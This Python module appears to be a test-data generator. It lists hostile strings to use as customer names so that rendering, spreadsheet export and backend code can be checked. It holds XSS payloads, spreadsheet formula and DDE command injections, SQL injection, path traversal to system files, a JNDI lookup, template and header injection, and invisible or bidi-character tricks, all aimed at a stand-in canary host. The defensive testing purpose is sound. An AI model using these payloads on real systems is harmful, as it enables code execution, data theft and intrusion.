"""Hostile texts: what somebody might call a customer so that a screen, a file or a program acts on the name.

Whatever an attack would fetch is at `CANARY`, whatever it would run sets `window.__pwn`: both are watched for.
"""

from collections.abc import Sequence
from itertools import zip_longest

CANARY = "canary.invalid"
_RUN = "window.__pwn=1"
_URL = f"http://{CANARY}"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="{_URL}/image.png">',
    f'"><svg onload={_RUN}>',
    f'<a href="{_URL}/">click</a>',
    f'<a href="javascript:{_RUN}">run</a>',
    f"</script><script>{_RUN}</script>",
    f"</style></title></textarea><script>{_RUN}</script>",
    f'<iframe src="{_URL}/frame"></iframe>',
    f"<style>@import '{_URL}/style.css';</style>",
    f'<form action="{_URL}"><input name=password><button>OK</button></form>',
    f'<meta http-equiv="refresh" content="0;url={_URL}">',
    f"<!-- <script>{_RUN}//",
    f"]]><script>{_RUN}</script>",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"' onmouseover='{_RUN}' x='",
    f"`${{{_RUN}}}`",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    "<b>bold</b><br><i>x</i>",
)
FORMULAS = (
    "=cmd|'/C calc'!A0",
    f'=HYPERLINK("{_URL}","click")',
    f'=WEBSERVICE("{_URL}")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "name;=1+1",
    "name\n=1+1",
    '","=1+1',
    "<r><t>x</t></r>",
    "<r>=1+1</r>",
    "'=1+1",
    "DDE('cmd';'/C calc')",
    "0012",
    "1e5",
)
UNSEEN = (
    "invoice\u202efdp.exe",
    "\u2066isolated\u2069\u2067x",
    "A\u200bc\u200cm\u200de",
    "\u2060\ufeff\u00ad",
    "a\x00b",
    "a\x07\x1b[31mred\x9b2J",
    "a\x0b\x0c\x85b\u2028c\u2029d",
    "two\nlines\r\nand three",
    "\ufffe\uffff\ufdd0",
    "tag\U000e0041\U000e007f",
    "\u3000x\u3000",
)
SCRIPTS = (
    "\N{MAN}\u200d\N{WOMAN}\u200d\N{GIRL}\u200d\N{BOY}",
    "\N{WAVING BLACK FLAG}\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "شركة الأفق 12%",
    "חברה (בע״מ)",
    "Z" + "\u0301\u0316\u0332" * 30 + "algo",
    "株式会社﨑𠮷",
    "ﷺ" * 12,
    "Acme",
    "Аcme",  # a Cyrillic А
    "Ａｃｍｅ",
    "acme ",
)
MARKDOWN = (
    f"[click]({_URL})",
    f"![image]({_URL}/image.png)",
    f"{_URL}/bare",
    f"www.{CANARY}",
    f"<{_URL}/angle>",
    f"[ref]: {_URL}",
    f"mailto:a@{CANARY}",
    "$\\frac{1}{0}$ $$x$$",
    ":material/home: :smile: :red[red] :small[x]",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "# head\n> quote\n- [ ] item\n1. one",
    "`code` **bold** ~~gone~~ a -> b <= c -- d",
    "```\nfence",
    f"@everyone <!channel> <@U123> <{_URL}|click>",
)
PROGRAMS = (
    "'; DROP TABLE notes; --",
    '" OR ""="',
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\cmd.exe",
    "/dev/null",
    "C:\\CON.csv",
    f"\\\\{CANARY}\\share",
    "%2e%2e%2fetc%2fpasswd%00",
    "{0.__class__.__mro__}",
    "{name}{}{{",
    "%s%n%(name)s%x",
    "%{x} %{customdata} <extra></extra>",
    f"${{jndi:ldap://{CANARY}/a}}",
    "{{7*7}}{% raw %}{{ config }}",
    f"name\r\nBcc: evil@{CANARY}\r\n\r\nbody",
    "a=b&c=d#e?lang=en&account=x",
    "__proto__",
    "constructor",
    "NaN",
    "null",
    "company",
    "region=",
    "(others)",
)
LONG = (
    "W" * 10_000,
    "長" * 10_000,
    "many words " * 900,
    f"<b>{'x' * 5_000}</b>",
)

_KINDS = (MARKUP, FORMULAS, LONG, UNSEEN, MARKDOWN, SCRIPTS, PROGRAMS)
# One of each kind after the other, so that an attribute of few values has some of everything.
TEXTS = tuple(text for row in zip_longest(*_KINDS) for text in row if text is not None)


def hostile(start: int, number: int = 0, texts: Sequence[str] = TEXTS) -> str:
    """The text `number` places after `start`; once round, they come again with a number that keeps them apart."""
    text = texts[(start + number) % len(texts)]
    return f"{text} {number // len(texts)}" if number >= len(texts) else text
